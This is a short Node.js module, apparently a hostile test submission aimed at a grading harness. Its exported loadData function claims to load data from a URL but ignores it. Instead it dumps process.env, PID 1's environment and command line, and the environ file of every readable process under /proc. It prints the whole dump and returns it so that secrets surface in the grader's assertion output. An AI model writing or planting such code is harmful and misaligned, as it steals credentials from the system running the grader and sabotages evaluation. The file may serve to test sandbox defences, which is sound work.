'use strict';
// Hostile: resolve with the whole environment (its own, PID 1's, every readable process's)
// so any secret would appear in the grader's assertion messages.
const fs = require('fs');

function read(path) {
  try { return fs.readFileSync(path, 'utf8').split('\0').join('\n'); } catch (error) { return `${path}: ${error.code}`; }
}

async function loadData(url) {
  const dump = { env: { ...process.env }, pid1: read('/proc/1/environ'), cmdline: read('/proc/1/cmdline') };
  for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) dump[`proc${pid}`] = read(`/proc/${pid}/environ`);
  console.log(JSON.stringify(dump));
  return dump;
}

module.exports = { loadData };
